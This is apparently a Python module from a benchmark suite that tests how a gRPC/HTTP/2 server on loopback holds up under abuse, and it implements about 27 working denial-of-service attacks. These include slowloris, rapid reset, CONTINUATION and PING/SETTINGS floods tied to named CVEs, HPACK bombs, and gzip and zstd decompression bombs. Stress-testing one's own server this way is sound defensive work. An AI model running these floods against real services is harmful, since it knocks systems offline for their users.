"""The attacks, each by what one hostile machine can send, against a server on loopback.

An attack goes on until it is cancelled and leaves what it counted in its ground's tally. It is written to
cost the attacker little: what can be prepared is prepared, so that the server has the processor.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import struct
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Mapping
from dataclasses import dataclass, field
from typing import Any, Final

import zstandard

from benchmarks.abuse import frames
from benchmarks.abuse.frames import Kind, Peer
from fmi.v1 import interchange_service_pb2 as wire
from fmi.v1 import packet_pb2, update_pb2

__all__ = ["ATTACKS", "COHORT", "Attack", "Ground"]

COHORT: Final = "care"
"""The cohort of the honest sites, whose updates are there to be asked for."""

EMIT: Final = "/fmi.v1.InterchangeService/Emit"
EMIT_STREAM: Final = "/fmi.v1.InterchangeService/EmitStream"
SUBSCRIBE: Final = "/fmi.v1.InterchangeService/Subscribe"
GET_UPDATE: Final = "/fmi.v1.InterchangeService/GetUpdate"
MESSAGE_BYTES: Final = 4 * 2**20
"""The largest message that a server takes by default."""

MIB: Final = 2**20
NO_WINDOW: Final = {frames.INITIAL_WINDOW_SIZE: 0}


@dataclass
class Ground:
    """Where an attack takes place.

    Attributes:
        host: The server's host, on loopback.
        port: The server's port.
        scale: 1 is the attack of the benchmark; less is a smaller one.
        tally: What was sent, and what the server did about it.
        peers: The connections of the attack.
    """

    host: str
    port: int
    scale: float = 1.0
    tally: Counter[str] = field(default_factory=Counter)
    peers: list[Peer] = field(default_factory=list)

    def sized(self, number: int) -> int:
        """Return a number of the attack at its scale."""
        return max(1, round(number * self.scale))

    async def peer(self, *, preface: bool = True, **options: Any) -> Peer | None:
        """Connect; None where the server does not take the connection."""
        made = Peer(self.host, self.port, **options)
        try:
            await made.open(preface=preface)
        except OSError:
            self.tally["refused connections"] += 1
            return None
        except asyncio.CancelledError:
            made.abort()
            raise
        self.peers.append(made)
        self.tally["connections"] += 1
        return made

    async def connected(self, number: int, **options: Any) -> list[Peer]:
        """Connect many times, and leave the server a moment to take the last."""
        found = [await self.peer(**options) for _ in range(number)]
        await asyncio.sleep(0.2)
        return [peer for peer in found if peer is not None]

    def count(self) -> None:
        """Count what the server said, when the attack is over."""
        for peer in self.peers:
            said = {
                "closed by the server": peer.closed.is_set(),
                "goaway": peer.goaway is not None,
                "resets": sum(peer.resets.values()),
                "answers": peer.said[Kind.HEADERS],
            }
            self.tally.update({what: int(number) for what, number in said.items() if number})

    async def close(self) -> None:
        """Close all connections."""
        for peer in self.peers:
            await peer.close()


def forever() -> asyncio.Future[None]:
    """Wait until cancelled."""
    return asyncio.get_running_loop().create_future()


async def each(peers: Iterable[Peer], work: Callable[[Peer], Awaitable[object]]) -> None:
    """Do work on all connections at once, until the last of them is closed."""
    await asyncio.gather(*(work(peer) for peer in peers))
    await forever()


def streams() -> Iterable[int]:
    """Count the streams of a connection."""
    return itertools.count(1, 2)


# Connections that never become calls


async def slow_preface(ground: Ground) -> None:
    """Say the preface byte by byte (slowloris)."""

    async def drip(peer: Peer) -> None:
        for octet in itertools.cycle(frames.PREFACE + frames.settings()):
            if not await peer.send(bytes([octet])):
                return
            ground.tally["sent"] += 1
            await asyncio.sleep(1.0)

    peers = await ground.connected(ground.sized(500), preface=False, acknowledges=False)
    await each(peers, drip)


async def silent(ground: Ground) -> None:
    """Connect, and say nothing at all."""
    await ground.connected(ground.sized(1000), preface=False, acknowledges=False)
    await forever()


async def idle(ground: Ground) -> None:
    """Greet, and then call nothing."""
    await ground.connected(ground.sized(1000))
    await forever()


async def churn(ground: Ground) -> None:
    """Connect, greet, and reset the connection, again and again."""
    while True:
        peer = await ground.peer(reads=False)
        if peer is not None:
            peer.abort()
            ground.peers.remove(peer)


# Calls that never come to their end


async def unfinished(ground: Ground) -> None:
    """Begin Emits, and never send their message."""
    fields = frames.block(EMIT)

    async def begin(peer: Peer) -> None:
        for stream in range(1, 2 * ground.sized(1000), 2):
            if not await peer.send(frames.headers(stream, fields)):
                return
            ground.tally["sent"] += 1

    await each(await ground.connected(10), begin)


async def half_sent(ground: Ground) -> None:
    """Send the largest messages but for their last MiB."""
    await _half_sent(ground, EMIT)


async def half_batches(ground: Ground) -> None:
    """Do the same on EmitStream, where a pause between messages is nothing unusual."""
    await _half_sent(ground, EMIT_STREAM)


async def _half_sent(ground: Ground, path: str) -> None:
    fields = frames.block(path)
    begun, body = frames.message(b"", declared=MESSAGE_BYTES), bytes(MIB)

    async def fill(peer: Peer) -> None:
        async def one(stream: int) -> None:
            await peer.send(frames.headers(stream, fields))
            if not await peer.send_within_windows(stream, begun):
                return
            for _ in range(MESSAGE_BYTES // MIB - 1):
                if not await peer.send_within_windows(stream, body):
                    return
                ground.tally["sent MiB"] += 1

        await asyncio.gather(*(one(stream) for stream in range(1, 2 * ground.sized(100), 2)))

    await each(await ground.connected(4), fill)


async def unread_answers(ground: Ground) -> None:
    """Ask for the largest answers, with windows of no size."""
    asked = wire.GetUpdateRequest(cohort=COHORT, kind=update_pb2.UPDATE_KIND_PRIOR)
    fields, payload = frames.block(GET_UPDATE), asked.SerializeToString()

    async def ask(peer: Peer) -> None:
        for stream in range(1, 2 * ground.sized(1000), 2):
            if not await peer.send(frames.request(stream, fields, payload)):
                return
            ground.tally["sent"] += 1

    await each(await ground.connected(5, settings_sent=NO_WINDOW), ask)


async def zero_windows(ground: Ground) -> None:
    """Subscribe to everything, with windows of no size."""
    fields = frames.block(SUBSCRIBE)
    modes = (wire.DELIVERY_MODE_EVERY, wire.DELIVERY_MODE_LATEST)

    async def subscribe(peer: Peer) -> None:
        for stream in range(1, 2 * ground.sized(50), 2):
            asked = wire.SubscribeRequest(cohorts=["**"], mode=modes[stream // 2 % 2])
            if not await peer.send(frames.request(stream, fields, asked.SerializeToString())):
                return
            ground.tally["sent"] += 1

    await each(await ground.connected(4, settings_sent=NO_WINDOW), subscribe)


# Streams


async def stream_flood(ground: Ground) -> None:
    """Begin as many calls as the connection carries, whatever the server's limit is."""
    fields = frames.block(EMIT)

    async def flood(peer: Peer) -> None:
        for start in itertools.count(1, 2_000):
            begun = (frames.headers(stream, fields) for stream in range(start, start + 2_000, 2))
            if not await peer.send(b"".join(begun)):
                return
            ground.tally["sent"] += 1_000

    await each(await ground.connected(4), flood)


async def rapid_reset(ground: Ground) -> None:
    """Begin calls and reset each at once (CVE-2023-44487)."""
    asked = wire.GetUpdateRequest(cohort=COHORT, kind=update_pb2.UPDATE_KIND_PRIOR)
    fields, payload = frames.block(GET_UPDATE), asked.SerializeToString()

    async def flood(peer: Peer) -> None:
        for start in itertools.count(1, 2_000):
            calls = (
                frames.request(stream, fields, payload) + frames.reset(stream)
                for stream in range(start, start + 2_000, 2)
            )
            if not await peer.send(b"".join(calls)):
                return
            ground.tally["sent"] += 1_000

    await each(await ground.connected(4), flood)


async def call_flood(ground: Ground) -> None:
    """Make whole calls that are refused, as many as the connection carries."""
    fields, payload = frames.block(EMIT), b"\xff" * 32

    async def flood(peer: Peer) -> None:
        for start in itertools.count(1, 200):
            calls = (
                frames.request(stream, fields, payload) for stream in range(start, start + 200, 2)
            )
            if not await peer.send(b"".join(calls)):
                return
            ground.tally["sent"] += 100

    await each(await ground.connected(4), flood)


# Headers


async def large_header(ground: Ground) -> None:
    """Send a header of a mebibyte, again and again."""
    fields = frames.block(EMIT, [(b"x-large", b"a" * MIB)])
    await _flood_headers(ground, fields)


async def many_headers(ground: Ground) -> None:
    """Send 20,000 headers with each call."""
    fields = frames.block(EMIT, ((b"x-%d" % number, b"a") for number in range(20_000)))
    await _flood_headers(ground, fields)


async def hpack_bomb(ground: Ground) -> None:
    """Have a header of 4 kB repeated 16,000 times, a byte each time."""
    entered = frames.literal(b"x-bomb", b"a" * 4_000, indexed=True)
    fields = frames.block(EMIT) + entered + b"\xbe" * 16_000
    await _flood_headers(ground, fields)


async def _flood_headers(ground: Ground, fields: bytes) -> None:
    async def flood(peer: Peer) -> None:
        for stream in streams():
            pieces = [fields[place : place + 16_384] for place in range(0, len(fields), 16_384)]
            octets = frames.frame(Kind.HEADERS, pieces[0], stream=stream)
            octets += b"".join(
                frames.frame(Kind.CONTINUATION, piece, stream=stream) for piece in pieces[1:]
            )
            octets += frames.frame(Kind.CONTINUATION, b"", flags=frames.END_HEADERS, stream=stream)
            if not await peer.send(octets):
                return
            ground.tally["sent"] += 1

    await each(await ground.connected(4), flood)


async def endless_headers(ground: Ground) -> None:
    """Send CONTINUATION without end (CVE-2024-27316)."""
    more = b"".join(frames.literal(b"x-%05d" % number, b"a" * 50) for number in range(230))
    octets = frames.frame(Kind.CONTINUATION, more, stream=1) * 16

    async def flood(peer: Peer) -> None:
        await peer.send(frames.frame(Kind.HEADERS, frames.block(EMIT), stream=1))
        while await peer.send(octets):
            ground.tally["sent"] += 16

    await each(await ground.connected(4), flood)


# Frames that cost the sender nothing


async def _flood(ground: Ground, octets: bytes, *, opening: bytes = b"", count: int) -> None:
    """Send the same again and again, on connections that are made anew when they are closed."""

    async def flood(first: Peer) -> None:
        peer: Peer | None = first
        while True:
            while peer is None or peer.closed.is_set():
                await asyncio.sleep(0.01)
                peer = await ground.peer()
            await peer.send(opening)
            while await peer.send(octets):
                ground.tally["sent"] += count
            # Thousands of them may come and go.
            ground.tally["closed by the server"] += 1
            ground.peers.remove(peer)
            await peer.close()

    await each(await ground.connected(4), flood)


async def ping_flood(ground: Ground) -> None:
    """Send PING (CVE-2019-9512)."""
    await _flood(ground, frames.frame(Kind.PING, bytes(8)) * 1_000, count=1_000)


async def settings_flood(ground: Ground) -> None:
    """Send SETTINGS, each of which must be acknowledged (CVE-2019-9515)."""
    await _flood(ground, frames.settings({frames.INITIAL_WINDOW_SIZE: 65_535}) * 1_000, count=1_000)


async def window_flood(ground: Ground) -> None:
    """Send WINDOW_UPDATE of a byte."""
    await _flood(ground, frames.window_update(0, 1) * 1_000, count=1_000)


async def priority_flood(ground: Ground) -> None:
    """Send PRIORITY of streams that there never are (CVE-2019-9513)."""
    octets = frames.frame(Kind.PRIORITY, struct.pack(">IB", 0, 1), stream=1) * 1_000
    await _flood(ground, octets, count=1_000)


async def empty_flood(ground: Ground) -> None:
    """Send DATA without any data (CVE-2019-9518)."""
    opening = frames.headers(1, frames.block(EMIT))
    octets = frames.frame(Kind.DATA, b"", stream=1) * 1_000
    await _flood(ground, octets, opening=opening, count=1_000)


# Messages


async def declared(ground: Ground) -> None:
    """Declare messages of 4 GiB."""
    fields = frames.block(EMIT)
    begun = frames.message(bytes(100), declared=2**32 - 1)

    async def flood(peer: Peer) -> None:
        for start in itertools.count(1, 100):
            calls = (
                frames.headers(stream, fields) + frames.data(stream, begun)
                for stream in range(start, start + 100, 2)
            )
            if not await peer.send(b"".join(calls)):
                return
            ground.tally["sent"] += 50
            await asyncio.sleep(0.02)

    await each(await ground.connected(4), flood)


async def gzip_bomb(ground: Ground) -> None:
    """Send messages of 1 MiB that gzip makes 1 GiB of."""
    fields = frames.block(EMIT, [(b"grpc-encoding", b"gzip")])
    await _bombs(ground, fields, frames.message(_zeros(2**30), compressed=True))


async def zstd_bomb(ground: Ground) -> None:
    """Send envelopes of a few kilobytes that hold 16 MiB of the smallest packets."""
    content = packet_pb2.PacketBatch(packets=[packet_pb2.Packet()]).SerializeToString()
    content *= 16 * MIB // len(content)
    envelope = wire.EncodedPackets(
        encoding=wire.ENCODING_ZSTD,
        uncompressed_size=len(content),
        data=zstandard.ZstdCompressor(level=19).compress(content),
    )
    payload = wire.EmitRequest(encoded=envelope).SerializeToString()
    await _bombs(ground, frames.block(EMIT), frames.message(payload))


async def empty_items(ground: Ground) -> None:
    """Send batches of 4 MiB of empty packets, which are fifty times that when they are parsed."""
    batch = packet_pb2.PacketBatch(packets=[packet_pb2.Packet()] * 1000).SerializeToString()
    batch *= (MESSAGE_BYTES - 64) // len(batch)
    payload = b"\x12" + _length(batch) + batch  # field 2 of an EmitStreamRequest
    await _conversations(ground, frames.message(payload))


async def empty_pairs(ground: Ground) -> None:
    """Send Emits of 4 MiB with nothing but empty causal pairs."""
    pairs = packet_pb2.ConceptCausalSummary(causal_pairs=[packet_pb2.CausalPair()] * 1000)
    summary = pairs.SerializeToString() * ((MESSAGE_BYTES - 64) // 2000)
    packet = b"\x22" + _length(summary) + summary  # `ccs`
    payload = frames.message(b"\x0a" + _length(packet) + packet)
    fields = frames.block(EMIT)

    async def flood(peer: Peer) -> None:
        for sent, stream in enumerate(streams(), 1):
            await peer.send(frames.headers(stream, fields))
            if not await peer.send_within_windows(stream, payload):
                return
            await peer.send(frames.data(stream, b"", end=True))
            ground.tally["sent"] += 1
            # One after the other: what is sent before it can be looked at is held as it is.
            await peer.heard(lambda: peer.said[Kind.HEADERS] >= sent)  # noqa: B023

    await each(await ground.connected(ground.sized(4)), flood)


async def bad_batches(ground: Ground) -> None:
    """Send envelopes of a few hundred bytes with 10,000 packets that break every rule."""
    content = packet_pb2.PacketBatch(packets=[packet_pb2.Packet()] * 10_000).SerializeToString()
    envelope = wire.EncodedPackets(
        encoding=wire.ENCODING_ZSTD,
        uncompressed_size=len(content),
        data=zstandard.ZstdCompressor(level=19).compress(content),
    )
    payload = wire.EmitStreamRequest(encoded=envelope).SerializeToString()
    await _conversations(ground, frames.message(payload))


async def _conversations(ground: Ground, message: bytes) -> None:
    """Send the same message again and again on calls of EmitStream, and take all that is answered."""
    fields = frames.block(EMIT_STREAM)

    async def flood(peer: Peer) -> None:
        await peer.send(frames.window_update(0, frames.LARGEST_WINDOW - 65_535))
        for stream in streams():
            if not await peer.send(frames.headers(stream, fields)):
                return
            while await peer.send_within_windows(stream, message):
                ground.tally["sent"] += 1

    settings_sent = {frames.INITIAL_WINDOW_SIZE: frames.LARGEST_WINDOW}
    peers = await ground.connected(ground.sized(4), settings_sent=settings_sent)
    await each(peers, flood)


def _length(data: bytes) -> bytes:
    """Write how long a field is, as a varint."""
    size, written = len(data), bytearray()
    while size > 0x7F:
        written.append(size & 0x7F | 0x80)
        size >>= 7
    return bytes([*written, size])


async def _bombs(ground: Ground, fields: bytes, payload: bytes) -> None:
    async def flood(peer: Peer) -> None:
        for stream in streams():
            if not await peer.send(frames.headers(stream, fields)):
                return
            if not await peer.send_within_windows(stream, payload):
                return
            await peer.send(frames.data(stream, b"", end=True))
            ground.tally["sent"] += 1

    await each(await ground.connected(ground.sized(4)), flood)


def _zeros(size: int) -> bytes:
    """Compress so many zeros with gzip, without ever having them."""
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = bytes(MIB)
    first = squeeze.compress(piece) + squeeze.flush(zlib.Z_FULL_FLUSH)
    again = squeeze.compress(piece) + squeeze.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(size // MIB):
        check = zlib.crc32(piece, check)
    head = b"\x1f\x8b\x08" + bytes(6) + b"\xff"
    body = first + again * (size // MIB - 1) + squeeze.flush()
    return head + body + struct.pack("<II", check, size)


@dataclass(frozen=True, slots=True)
class Attack:
    """An attack by its name."""

    name: str
    run: Callable[[Ground], Awaitable[None]]

    @property
    def what(self) -> str:
        """What it does, in a line."""
        return (self.run.__doc__ or "").strip().rstrip(".")

    @contextlib.asynccontextmanager
    async def going_on(self, ground: Ground) -> AsyncIterator[Ground]:
        """Attack for as long as the context lasts; then let go of everything."""
        task = asyncio.ensure_future(self.run(ground))
        try:
            yield ground
        finally:
            task.cancel()
            await asyncio.wait({task})
            ground.count()
            await ground.close()
        if not task.cancelled() and (error := task.exception()) is not None:
            raise error


ATTACKS: Final[Mapping[str, Attack]] = {
    run.__name__.replace("_", "-"): Attack(run.__name__.replace("_", "-"), run)
    for run in (
        slow_preface,
        silent,
        idle,
        churn,
        unfinished,
        half_sent,
        half_batches,
        unread_answers,
        zero_windows,
        stream_flood,
        rapid_reset,
        call_flood,
        large_header,
        many_headers,
        hpack_bomb,
        endless_headers,
        ping_flood,
        settings_flood,
        window_flood,
        priority_flood,
        empty_flood,
        declared,
        gzip_bomb,
        zstd_bomb,
        empty_items,
        empty_pairs,
        bad_batches,
    )
}
